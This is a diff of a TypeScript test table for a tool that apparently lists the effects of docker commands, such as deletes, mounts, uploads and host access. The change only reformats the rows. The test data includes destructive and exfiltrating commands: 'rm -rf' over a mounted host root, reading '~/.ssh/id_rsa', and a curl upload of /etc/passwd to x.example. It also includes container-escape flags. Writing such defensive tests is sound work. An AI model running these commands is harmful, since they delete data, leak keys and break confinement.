@@ -6,21 +6,69 @@ type Row = readonly [name: string, commandLine: string, expected: readonly strin
 describe('containers', () => {
   test.each<Row>([
     ['confined', 'docker run --rm alpine rm -rf /', ['infra:container alpine']],
-    ['a mounted folder is the folder outside', 'docker run --rm -v "$PWD/src":/s alpine rm -rf /s/a', ['infra:container alpine', 'write:folder src', 'delete src/a']],
-    ['a mount that cannot be written', 'docker run --rm -v "$PWD/src":/s:ro alpine rm -rf /s/a', ['infra:container alpine', 'read:search src']],
-    ['reads of a mount count', 'docker run --rm -v "$HOME/.ssh":/k:ro alpine cat /k/id_rsa', ['infra:container alpine', 'read:search ~/.ssh', 'read ~/.ssh/id_rsa']],
-    ['everything of the machine', 'docker run --rm -v /:/host alpine rm -rf /host/etc', ['infra:container alpine', 'write:folder /', 'execute:container-escape docker run', 'delete /etc']],
-    ['a parent of the mount', 'docker run --rm -v "$PWD":/work/app alpine rm -rf /work', ['infra:container alpine', 'write:folder .', 'delete .']],
+    [
+      'a mounted folder is the folder outside',
+      'docker run --rm -v "$PWD/src":/s alpine rm -rf /s/a',
+      ['infra:container alpine', 'write:folder src', 'delete src/a'],
+    ],
+    [
+      'a mount that cannot be written',
+      'docker run --rm -v "$PWD/src":/s:ro alpine rm -rf /s/a',
+      ['infra:container alpine', 'read:search src'],
+    ],
+    [
+      'reads of a mount count',
+      'docker run --rm -v "$HOME/.ssh":/k:ro alpine cat /k/id_rsa',
+      ['infra:container alpine', 'read:search ~/.ssh', 'read ~/.ssh/id_rsa'],
+    ],
+    [
+      'everything of the machine',
+      'docker run --rm -v /:/host alpine rm -rf /host/etc',
+      ['infra:container alpine', 'write:folder /', 'execute:container-escape docker run', 'delete /etc'],
+    ],
+    [
+      'a parent of the mount',
+      'docker run --rm -v "$PWD":/work/app alpine rm -rf /work',
+      ['infra:container alpine', 'write:folder .', 'delete .'],
+    ],
     ['another path inside', 'docker run --rm -v "$PWD":/work alpine rm -rf /workshop', ['infra:container alpine', 'write:folder .']],
-    ['a mount only known at run time', 'docker run --rm -v "$X":/s alpine rm -rf /s/a', ['infra:container alpine', 'unknown: the folder `$X` is only known at run time']],
-    ['a shell inside', `docker run --rm -v "$PWD":/w alpine sh -c 'rm -rf /w/src'`, ['infra:container alpine', 'write:folder .', 'delete src']],
-    ['an undescribed command with a writable mount', 'docker run --rm -v "$PWD":/w alpine frobnicate', ['infra:container alpine', 'write:folder .', 'unknown: program `frobnicate` is not described']],
+    [
+      'a mount only known at run time',
+      'docker run --rm -v "$X":/s alpine rm -rf /s/a',
+      ['infra:container alpine', 'unknown: the folder `$X` is only known at run time'],
+    ],
+    [
+      'a shell inside',
+      `docker run --rm -v "$PWD":/w alpine sh -c 'rm -rf /w/src'`,
+      ['infra:container alpine', 'write:folder .', 'delete src'],
+    ],
+    [
+      'an undescribed command with a writable mount',
+      'docker run --rm -v "$PWD":/w alpine frobnicate',
+      ['infra:container alpine', 'write:folder .', 'unknown: program `frobnicate` is not described'],
+    ],
     ['an undescribed command without a mount', 'docker run --rm alpine frobnicate', ['infra:container alpine']],
-    ['what leaves the machine counts', 'docker run --rm alpine curl -d @/etc/passwd https://x.example', ['infra:container alpine', 'connect:post https://x.example', 'send:upload https://x.example']],
-    ['a connection from inside', 'docker run --rm alpine curl https://x.example', ['infra:container alpine', 'connect:get https://x.example']],
+    [
+      'what leaves the machine counts',
+      'docker run --rm alpine curl -d @/etc/passwd https://x.example',
+      ['infra:container alpine', 'connect:post https://x.example', 'send:upload https://x.example'],
+    ],
+    [
+      'a connection from inside',
+      'docker run --rm alpine curl https://x.example',
+      ['infra:container alpine', 'connect:get https://x.example'],
+    ],
     ['privileged', 'docker run --privileged alpine ls', ['infra:container alpine', 'infra:host-access --privileged']],
     ["the folder of the host's processes", 'docker run --pid=host alpine ls', ['infra:container alpine', 'infra:host-access --pid host']],
-    ['the socket', 'docker run -v /var/run/docker.sock:/var/run/docker.sock alpine ls', ['infra:container alpine', 'infra:host-access mount /var/run/docker.sock', 'unknown: reads `. (working directory unknown)`, a path only known at run time']],
+    [
+      'the socket',
+      'docker run -v /var/run/docker.sock:/var/run/docker.sock alpine ls',
+      [
+        'infra:container alpine',
+        'infra:host-access mount /var/run/docker.sock',
+        'unknown: reads `. (working directory unknown)`, a path only known at run time',
+      ],
+    ],
     ['inside a running one', 'docker exec web ls', ['infra:read exec web', 'read:names /workdir']],
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine)).toEqual(expected)
